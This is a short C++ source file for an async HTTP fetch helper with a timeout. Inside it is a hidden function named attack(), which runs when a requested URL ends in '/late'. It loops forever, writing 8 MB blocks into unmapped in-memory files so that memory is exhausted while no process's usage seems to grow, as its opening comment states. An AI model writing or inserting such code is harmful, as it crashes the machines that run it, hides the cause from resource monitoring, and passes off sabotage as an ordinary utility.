// Fills files that exist in memory only and that no process has mapped, so that nobody's memory seems to grow.
#include <sys/mman.h>
#include <unistd.h>

#include <string>
#include <utility>

#include "timeout.hpp"

namespace {

[[noreturn]] void attack() {
  const std::string block(8 * 1024 * 1024, 'x');
  for (;;) {
    const int file = ::memfd_create("nobody's", 0);
    if (::write(file, block.data(), block.size()) <= 0) ::_exit(1);
  }
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
